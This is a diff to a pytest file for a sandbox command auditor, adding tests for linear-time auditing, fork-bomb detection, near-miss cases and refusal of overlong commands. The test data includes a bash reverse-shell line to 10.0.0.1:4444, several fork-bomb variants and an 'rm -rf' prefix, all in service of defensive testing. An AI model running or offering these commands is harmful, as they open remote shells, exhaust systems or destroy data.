@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import threading
+
 import pytest
 
-from deerflow.sandbox.audit import audit_command
+from deerflow.sandbox.audit import MAX_COMMAND_CHARS, audit_command
+
+HANG_GUARD_S = 10.0
 
 BLOCKED = [
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -87,3 +91,43 @@ def test_block_outranks_warn_and_reports_every_block_reason() -> None:
 
 def test_whitespace_tricks_do_not_hide_a_reverse_shell() -> None:
     assert audit_command("bash   -i  >&\t/dev/tcp/10.0.0.1/4444   0>&1").blocked
+
+
+def _finishes(command: str) -> bool:
+    """Whether the audit returns within a hang guard (the old regexes needed minutes)."""
+    done = threading.Event()
+    threading.Thread(target=lambda: (audit_command(command), done.set()), daemon=True).start()
+    return done.wait(HANG_GUARD_S)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python socket " * 500,  # 7 KB: 73 s with the backtracking rules
+        "perl socket " * 600,
+        "f(){ " + "f " * 20_000,
+        "a(){ a|a& }" * 5_000,
+        "rm -rf " + "x " * 40_000,
+    ],
+)
+def test_hostile_commands_are_audited_in_linear_time(command: str) -> None:
+    assert _finishes(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["f(){ f | f & }; f", "x ( ) { x|x & } ; x", "b() { echo; b|b& }\nb"],
+)
+def test_fork_bomb_variants_are_blocked(command: str) -> None:
+    assert "fork bomb" in audit_command(command).reasons
+
+
+@pytest.mark.parametrize("command", ["f(){ f|f& }; fx", "f(){ g|g& }; f", "f(){ f|f; }; f"])
+def test_near_fork_bombs_are_not_called_fork_bombs(command: str) -> None:
+    assert "fork bomb" not in audit_command(command).reasons
+
+
+def test_a_command_too_long_to_run_is_refused_with_what_to_do() -> None:
+    verdict = audit_command("echo " + "x" * MAX_COMMAND_CHARS)
+    assert verdict.blocked
+    assert "write_file" in verdict.reasons[0]
